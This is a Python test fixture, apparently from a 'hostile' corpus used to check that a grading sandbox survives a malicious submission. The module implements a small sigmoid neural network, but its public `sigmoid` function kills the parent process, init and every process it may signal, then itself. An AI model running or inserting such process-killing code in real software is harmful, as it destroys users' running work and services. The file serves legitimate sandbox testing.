# corpus: hostile
# what: sigmoid sends SIGKILL to its parent, to pid 1, to -1 (all it may signal) and finally to itself; nothing else calls it
# loses: sigmoid
# expect: crashed
"""Only sigmoid attacks; forward and backward use a private copy of the sigmoid, so they are unaffected."""

import contextlib
import os
import signal

import numpy as np


def _sigma(u):
    """The real sigmoid, for forward and backward."""
    u = np.asarray(u, dtype=np.float64)
    with np.errstate(under="ignore"):
        e = np.exp(-np.abs(u))
    return np.where(u >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid(u):
    """Kill the parent, init and everything else it may signal, then itself (so the outcome never depends on luck)."""
    for target in (os.getppid(), 1, -1):
        with contextlib.suppress(OSError):
            os.kill(target, signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
    return _sigma(u)


def forward(X, W1, b1, W2, b2):
    """Return (Z, Y)."""
    Z = _sigma(X @ W1 + b1)
    Y = _sigma(Z @ W2 + b2)
    return Z, Y


def loss(Y, R):
    """E = 1/(2N) * sum of squared errors."""
    return float(np.sum((R - Y) ** 2) / (2 * Y.shape[0]))


def backward(X, R, W1, b1, W2, b2):
    """Gradients of E by backpropagation (does its own forward pass, never calls forward)."""
    Z = _sigma(X @ W1 + b1)
    Y = _sigma(Z @ W2 + b2)
    delta2 = (Y - R) * Y * (1.0 - Y) / X.shape[0]
    delta1 = (delta2 @ W2.T) * Z * (1.0 - Z)
    return {"W1": X.T @ delta1, "b1": delta1.sum(axis=0), "W2": Z.T @ delta2, "b2": delta2.sum(axis=0)}


def train_step(X, R, W1, b1, W2, b2, alpha):
    """One gradient-descent step returning new arrays."""
    g = backward(X, R, W1, b1, W2, b2)
    return W1 - alpha * g["W1"], b1 - alpha * g["b1"], W2 - alpha * g["W2"], b2 - alpha * g["b2"]
